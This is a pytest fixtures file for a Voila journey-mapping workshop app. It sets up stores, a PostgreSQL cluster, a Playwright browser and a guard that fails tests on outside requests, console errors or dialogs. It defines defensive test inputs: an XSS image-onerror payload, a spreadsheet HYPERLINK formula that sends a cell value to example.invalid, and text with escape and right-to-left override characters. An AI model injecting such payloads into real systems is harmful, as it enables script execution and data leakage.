"""Fixtures shared by the tests: stores, a Voila server started by the tests, a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from browsing import ARTIFACTS, guarded_context, serving
from postgres import Cluster, start_cluster

from journeykit.app.serve import CHROMIUM, CHROMIUM_ARGS
from journeykit.model import Journey, Persona, Step, Touchpoint, Workspace, stages_of
from journeykit.sample import create_sample
from journeykit.store import Store
from journeykit.widgets.lean import shared_parts

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = "<img src=x onerror=alert(1)>"
PASTED = "Pasted\x0bname\x1b[31m\u202eevil"
"""A name pasted from a word processor and a terminal: a soft return, an escape sequence and a
right-to-left override (the dashboard's kernel died on every load with one of them)."""
FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"Click")'


@pytest.fixture(autouse=True)
def page_widgets_share_their_parts() -> Iterator[None]:
    """Every widget a test makes shares the page's default layout and styles, as the served
    pages' widgets do: a view that changes a shared one fails its test (`SharedPartChanged`)."""
    with shared_parts():
        yield


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "workshop.db") as opened:
        yield opened


@pytest.fixture(scope="session")
def postgres() -> Iterator[Cluster]:
    """A PostgreSQL cluster of the tests' own, on a Unix socket, stopped when they end."""
    cluster = start_cluster()
    yield cluster
    cluster.stop()


@pytest.fixture(params=["sqlite", "postgresql"])
def location(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """Where a store test's store lives: a SQLite file, then a fresh PostgreSQL database."""
    if request.param == "sqlite":
        return str(tmp_path / "workshop.db")
    return request.getfixturevalue("postgres").database()


@pytest.fixture
def team(store: Store) -> str:
    store.create_team(Workspace(id="north", name="Team North"))
    return "north"


@pytest.fixture
def catalogue_team(store: Store) -> str:
    """Team North with three touchpoints and a seven-stage journey: what evidence is checked
    against (names, ids and stages to match, a step on the map)."""
    store.create_team(
        Workspace(
            id="north",
            name="Team North",
            personas=[Persona(id="buyer", name="Buyer")],
            touchpoints=[
                Touchpoint(id="web", name="Website", channel="web", digital=True),
                Touchpoint(id="chat", name="Live chat", channel="chat", digital=True),
                Touchpoint(id="wizard", name="Setup wizard", channel="app", digital=True),
            ],
            journeys=[
                Journey(
                    id="j",
                    name="B2B",
                    personas=["buyer"],
                    template="b2b-seven",
                    stages=stages_of("b2b-seven"),
                    steps=[Step(id="s", stage="onboarding", touchpoint="wizard", action="Sets up")],
                )
            ],
        )
    )
    return "north"


@pytest.fixture(scope="session")
def sample_store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The full-size sample workshop, built once, plus a team with a hostile name."""
    path = tmp_path_factory.mktemp("sample") / "sample.db"
    with Store(path) as opened:
        create_sample(opened)
        stages = stages_of("five-stage")
        opened.create_team(
            Workspace(
                id="hostile",
                name=f"Team {HOSTILE}",
                personas=[
                    Persona(id="evil", name=HOSTILE, quote=HOSTILE),
                    Persona(id="pasted", name=PASTED),
                ],
                touchpoints=[Touchpoint(id="formula", name=FORMULA, channel=HOSTILE, digital=True)],
                journeys=[
                    Journey(
                        id="j",
                        name=HOSTILE,
                        personas=["evil", "pasted"],
                        template="five-stage",
                        stages=stages,
                        steps=[
                            Step(
                                id="s",
                                stage=stages[0].id,
                                touchpoints=["formula"],
                                action=PASTED,
                                pain_points=[HOSTILE, FORMULA],
                            )
                        ],
                    )
                ],
            )
        )
    return path


@pytest.fixture(scope="session")
def workshop_url(
    sample_store_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """The workshop app on the full sample, read-only for the tests that use it; with no
    ready kernels, so the browser tests cover both ways a page is served."""
    with serving(sample_store_path, tmp_path_factory.mktemp("voila"), pool=0) as url:
        yield url


@pytest.fixture(scope="session")
def editing_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A smaller sample in a store of its own, for browser tests that change what they see."""
    path = tmp_path_factory.mktemp("editing") / "editing.db"
    with Store(path) as opened:
        create_sample(opened, responses=3000, events=5000, interviews=8)
    return path


@pytest.fixture(scope="session")
def editing_url(editing_store: Path) -> Iterator[str]:
    """The workshop app on `editing_store`."""
    with serving(editing_store, editing_store.parent) as url:
        yield url


@dataclass
class Guard:
    """What a page did that it must not: reach past 127.0.0.1, or log an error."""

    outside: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    leaving: list[str] = field(default_factory=list)
    """Pages that asked before being left with unsaved typing (the kit's own prompt)."""
    leave: bool = True
    """Whether such a prompt is answered "leave" (else "stay")."""

    def on_dialog(self, dialog) -> None:
        if dialog.type == "beforeunload":
            self.leaving.append(dialog.page.url)
            dialog.accept() if self.leave else dialog.dismiss()
            return
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self) -> None:
        assert not self.outside, f"requests left 127.0.0.1: {self.outside}"
        assert not self.errors, f"browser console errors: {self.errors}"
        assert not self.dialogs, f"the page opened dialogs (script ran): {self.dialogs}"


@pytest.fixture(scope="session")
def browser() -> Iterator[object]:
    if not Path(CHROMIUM).exists():
        pytest.fail(
            f"{CHROMIUM} is missing: run `make test` (it installs Debian's chromium as root) "
            "or `apt-get install chromium`"
        )
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=list(CHROMIUM_ARGS))
        yield launched
        launched.close()


@pytest.fixture
def page(browser: object) -> Iterator[tuple[object, Guard]]:
    context, outside = guarded_context(browser)
    guard = Guard(outside=outside)
    tab = context.new_page()

    def logged(message) -> None:  # each error with the page it happened on
        if message.type == "error":
            guard.errors.append(f"{tab.url}: {message.text}")

    tab.on("console", logged)
    tab.on("pageerror", lambda e: guard.errors.append(f"{tab.url}: {e}"))
    tab.on("dialog", guard.on_dialog)
    yield tab, guard
    context.close()


def screenshot(tab: object, name: str, width: int = 1280) -> Path:
    """Keep a screenshot as a test artifact (artifacts/screenshots/NAME.png), of the whole
    page at `width` (1024: as a projector shows it)."""
    folder = ARTIFACTS / "screenshots"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.png"
    # Voila scrolls inside the page, not the window: grow the window to the content first.
    height = tab.evaluate(  # type: ignore[attr-defined]
        "Math.max(document.body.scrollHeight,"
        " document.querySelector('#rendered_cells')?.scrollHeight || 0)"
    )
    tab.set_viewport_size({"width": width, "height": max(768, min(int(height) + 40, 8000))})  # type: ignore[attr-defined]
    # a tall page under load can take longer to paint than the default 30 s
    tab.screenshot(path=str(path), full_page=True, timeout=120_000)  # type: ignore[attr-defined]
    return path


@pytest.fixture
def save_screenshot():
    return screenshot


@pytest.fixture
def hostile() -> str:
    """Text a participant could type that must show as text and never run."""
    return HOSTILE
